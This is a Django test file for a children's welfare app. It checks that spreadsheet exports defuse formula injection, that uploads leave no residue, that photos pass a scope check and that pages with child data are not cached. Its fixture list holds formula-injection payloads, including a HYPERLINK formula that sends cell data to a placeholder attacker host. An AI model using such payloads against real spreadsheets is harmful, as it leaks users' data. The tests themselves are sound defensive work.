"""What Shouhu gives out (exports, the scored growth sheet, photos) cannot be turned against its users:
no formula runs when a sheet is opened, no copy is left behind, no file is served without a scope
check, and no browser or proxy keeps a copy of a page that shows a child."""

from __future__ import annotations

import csv
import importlib
import io
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import clear_url_caches, reverse

from conftest import make_child
from core.tests.test_sheets import bomb_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&D2,"点击")', "+1+2", "@SUM(A1)", "-2+3", "\t=1+1"]
GROWTH_ROWS = [
    ["姓名", "性别", "出生日期", "测量日期", "体重(kg)", "身高(cm)"],
    ["=1+2", "男", "2021-03-01", "2023-11-26", "15", "100"],
    ["李四", "女", "@SUM(A1)", "2023-11-30", "12", "88"],
]


@pytest.fixture
def hostile_kids(geo):
    return [make_child(geo["village_a"], name) for name in HOSTILE]


def _xlsx(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _csv(rows) -> bytes:
    return "".join(",".join(r) + "\r\n" for r in rows).encode()


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# ---------------------------------------------------------------- formula injection


def test_roster_csv_writes_formula_names_as_text(people, hostile_kids, login):
    response = login(people["cwd_a"]).get(reverse("roster_export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(_content(response).decode("utf-8-sig"))))
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted("'" + name for name in HOSTILE)
    assert "2015-03-08" in rows[1]  # ordinary cells unchanged


def test_roster_xlsx_writes_formula_names_as_text(people, hostile_kids, login):
    response = login(people["cwd_a"]).get(reverse("roster_export", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(HOSTILE)
    for cell in cells:
        assert cell.data_type != "f"
        assert cell.value.startswith("'")
    assert sorted(c.value[1:] for c in cells) == sorted(HOSTILE)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_scored_growth_sheet_has_no_formula_of_ours(people, login, suffix):
    content = _csv(GROWTH_ROWS) if suffix == ".csv" else _xlsx(GROWTH_ROWS)
    response = login(people["cwd_a"]).post(reverse("score_sheet"), {"sheet": SimpleUploadedFile(f"s{suffix}", content)})
    assert response.status_code == 200
    body = _content(response)
    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        # The CSV is written anew, so every cell Excel would run is made text, the user's too.
        assert rows[1][0] == "'=1+2"
        assert rows[2][2] == "'@SUM(A1)"
        assert "@SUM(A1)" in rows[2][-1]  # the problem quotes the bad date
        assert any(cell.startswith("-") and cell[1:2].isdigit() for cell in rows[1])  # z-scores stay numbers
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        # The workbook goes back as it came (the user's own formulas too); the added cells are text or numbers.
        added = [c for row in sheet.iter_rows(min_row=2) for c in row[len(GROWTH_ROWS[0]) :] if c.value is not None]
        assert added
        assert all(c.data_type in ("s", "n") for c in added)
        assert any(isinstance(c.value, float) and c.value < 0 for c in added)  # z-scores written as numbers


# ---------------------------------------------------------------- uploads leave no residue


def test_growth_sheet_uploads_leave_no_file_behind(people, login, tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    client = login(people["cwd_a"])
    for name, content in [
        ("ok.xlsx", _xlsx(GROWTH_ROWS)),
        ("ok.csv", _csv(GROWTH_ROWS)),
        ("broken.xlsx", b"PK\x03\x04 not a workbook"),
        ("bomb.xlsx", bomb_xlsx(64)),
        ("no-header.csv", b"a,b\r\n1,2\r\n"),
    ]:
        response = client.post(reverse("score_sheet"), {"sheet": SimpleUploadedFile(name, content)})
        assert response.status_code == 200
        _content(response)
        assert list(tmp_path.iterdir()) == [], name


def test_a_growth_sheet_bomb_is_refused_with_a_clear_message(people, login):
    response = login(people["cwd_a"]).post(
        reverse("score_sheet"), {"sheet": SimpleUploadedFile("bomb.xlsx", bomb_xlsx(64))}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert "unpacks to more than 50 MB" in response.content.decode()


# ---------------------------------------------------------------- photos only through the scope check


@pytest.fixture
def debug_urls():
    """shouhu.urls as `make run` builds it (DEBUG on)."""
    import shouhu.urls

    with override_settings(DEBUG=True):
        importlib.reload(shouhu.urls)
        clear_url_caches()
        yield
    importlib.reload(shouhu.urls)
    clear_url_caches()


def test_photos_are_not_served_from_media_even_under_debug(people, geo, login, client, tmp_path, debug_urls):
    with override_settings(MEDIA_ROOT=tmp_path):
        photo = Path(tmp_path, "children/photos/a.jpg")
        photo.parent.mkdir(parents=True)
        photo.write_bytes(b"\xff\xd8\xff\xe0 a child's face")
        child = make_child(geo["village_a"], "张伟", photo="children/photos/a.jpg")
        assert client.get("/media/children/photos/a.jpg").status_code == 404  # anonymous
        login(people["cwd_b"])
        assert client.get("/media/children/photos/a.jpg").status_code == 404
        assert client.get(reverse("child_photo", args=[child.uuid])).status_code == 404
        login(people["cwd_a"])
        assert client.get("/media/children/photos/a.jpg").status_code == 404
        response = client.get(reverse("child_photo", args=[child.uuid]))
        assert response.status_code == 200
        assert b"a child's face" in _content(response)


# ---------------------------------------------------------------- no copy in a browser's cache


def _no_store(response) -> bool:
    directives = {d.strip() for d in response.get("Cache-Control", "").split(",")}
    return {"no-store", "private"} <= directives


def test_pages_exports_and_api_with_child_data_are_not_cached(people, kids, login, client):
    assert not _no_store(client.get(reverse("child_detail", args=[kids["a"].uuid])))  # a redirect to login
    child = kids["a"]
    login(people["cwd_a"])
    for url in [
        reverse("child_detail", args=[child.uuid]),
        reverse("roster_export", args=["csv"]),
        reverse("roster_export", args=["xlsx"]),
        f"/api/v1/children/{child.uuid}",
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert _no_store(response), url
    response = client.post(reverse("score_sheet"), {"sheet": SimpleUploadedFile("s.xlsx", _xlsx(GROWTH_ROWS))})
    assert response["Content-Disposition"].startswith("attachment")
    assert _no_store(response)
